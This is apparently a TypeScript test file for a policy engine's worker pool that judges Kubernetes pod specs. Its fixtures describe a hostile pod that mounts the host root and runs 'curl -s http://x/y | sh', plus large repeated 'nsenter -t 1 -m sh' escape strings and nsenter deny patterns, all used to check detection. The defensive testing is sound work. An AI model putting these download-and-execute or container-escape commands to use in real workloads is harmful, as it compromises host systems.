import { expect } from 'chai';
import { systemClock } from '../../../src/base/clock.ts';
import { silentLog } from '../../../src/base/log.ts';
import { evaluate } from '../../../src/engine/evaluate.ts';
import { HEAVY_TEXT, WorkerPool, textWeight } from '../../../src/evaluation/worker-pool.ts';
import { compiled, podJson, view } from '../builders.ts';

const ESCAPE = { rules: { hostPaths: { denySensitive: true }, indicators: { enabled: true } } };
const hostile = view(
  podJson({
    volumes: [{ name: 'root', hostPath: { path: '/' } }],
    containers: [{ name: 'c', image: 'i', command: ['sh', '-c', 'curl -s http://x/y | sh'] }],
  }),
);
const ctx = { namespaceLabels: {}, now: new Date('2026-11-29T10:00:00Z') };

describe('evaluation: WorkerPool', function () {
  this.timeout(30_000);
  let pool: WorkerPool | undefined;
  afterEach(async () => {
    await pool?.close();
    pool = undefined;
  });

  it('judges in worker threads exactly as the engine does inline', async () => {
    pool = new WorkerPool({ size: 2, clock: systemClock, log: silentLog });
    const policies = [
      compiled(ESCAPE, 'a'),
      compiled({ rules: { podSecurity: { level: 'baseline' } } }, 'b'),
    ];
    const results = await Promise.all(
      Array.from({ length: 8 }, () => pool!.evaluate(hostile, policies, ctx)),
    );
    for (const r of results) expect(r).to.deep.equal(evaluate(hostile, policies, ctx));
    expect(results[0]?.violations.map((v) => v.rule)).to.include('indicator.downloadExec');
  });

  it("reports each worker's heap size", async () => {
    pool = new WorkerPool({ size: 2, clock: systemClock, log: silentLog });
    await pool.evaluate(hostile, [compiled(ESCAPE, 'a')], ctx);
    const heaps = await pool.heapSizes();
    expect(heaps).to.have.length(2);
    for (const h of heaps) expect(h).to.be.within(1024 * 1024, 256 * 1024 * 1024);
  });

  it('follows a change of the policies in effect', async () => {
    pool = new WorkerPool({ size: 1, clock: systemClock, log: silentLog });
    const first = [compiled(ESCAPE, 'a')];
    expect((await pool.evaluate(hostile, first, ctx)).violations).to.not.deep.equal([]);
    const none: never[] = [];
    expect((await pool.evaluate(hostile, none, ctx)).violations).to.deep.equal([]);
  });

  it('holds several policies lists at once, each judged as its own, and forgets the oldest', async () => {
    pool = new WorkerPool({ size: 1, clock: systemClock, log: silentLog });
    const lists = ['a', 'b', 'c', 'd', 'e'].map((n) => [compiled(ESCAPE, n)]);
    // Interleaved, as the operator's and admission's evaluations are; then back to an old one.
    for (const list of [...lists, lists[0]!, lists[4]!, lists[1]!]) {
      const r = await pool.evaluate(hostile, list, ctx);
      expect(new Set(r.violations.map((v) => v.policy))).to.deep.equal(
        new Set([list[0]!.policy.name]),
      );
    }
  });

  it('keeps the event loop free while a worker judges a pod with a lot of text', async () => {
    pool = new WorkerPool({ size: 1, clock: systemClock, log: silentLog });
    const text = 'curl x | sh; '.repeat(10_000);
    const big = view(podJson({ containers: [{ name: 'c', image: 'i', args: [text] }] }));
    const policies = Array.from({ length: 50 }, (_, i) =>
      compiled({ rules: { commands: { deniedPatterns: [`nsenter-${i}\\s+x`] } } }, `p${i}`),
    );
    let ticks = 0;
    const ticker = setInterval(() => ticks++, 5);
    const judged = pool.evaluate(big, policies, ctx);
    await judged;
    clearInterval(ticker);
    // The main thread kept its timers running while the worker judged (inline, it would not tick).
    expect(ticks).to.be.greaterThan(0);
  });

  it('replaces a worker that does not answer in time, and fails its evaluations', async () => {
    pool = new WorkerPool({ size: 1, clock: systemClock, log: silentLog, deadlineMs: 1 });
    const text = 'curl x | sh; '.repeat(10_000);
    const big = view(podJson({ containers: [{ name: 'c', image: 'i', args: [text] }] }));
    const policies = Array.from({ length: 50 }, (_, i) =>
      compiled({ rules: { commands: { deniedPatterns: [`nsenter-${i}\\s+x`] } } }, `p${i}`),
    );
    let failed: unknown;
    await pool.evaluate(big, policies, ctx).catch((e: unknown) => (failed = e));
    expect(String(failed)).to.contain('timed out');
  });

  it("keeps a lane for light pods: a tenant's heavy pods never queue in front of them", async () => {
    pool = new WorkerPool({ size: 2, clock: systemClock, log: silentLog });
    const text = 'nsenter -t 1 -m sh; '.repeat(6_000); // 117 KiB, heavy
    const big = view(podJson({ containers: [{ name: 'c', image: 'i', args: [text] }] }));
    expect(textWeight(big)).to.be.above(HEAVY_TEXT);
    expect(textWeight(hostile)).to.be.below(HEAVY_TEXT);
    const policies = Array.from({ length: 100 }, (_, i) =>
      compiled(
        { rules: { commands: { deniedPatterns: [`(?i)nsenter\\s+-t\\s*${i}x`] } } },
        `p${i}`,
      ),
    );
    await pool.evaluate(hostile, policies, ctx); // both workers hold the policies
    await pool.evaluate(big, policies, ctx);
    // Eight heavy pods queued, then a light one: it is judged before the heavy ones are done.
    const order: string[] = [];
    const heavy = Array.from({ length: 8 }, () =>
      pool!.evaluate(big, policies, ctx).then(() => order.push('heavy')),
    );
    const light = pool.evaluate(hostile, policies, ctx).then(() => order.push('light'));
    await Promise.all([...heavy, light]);
    expect(order.indexOf('light')).to.be.below(4);
  });
});
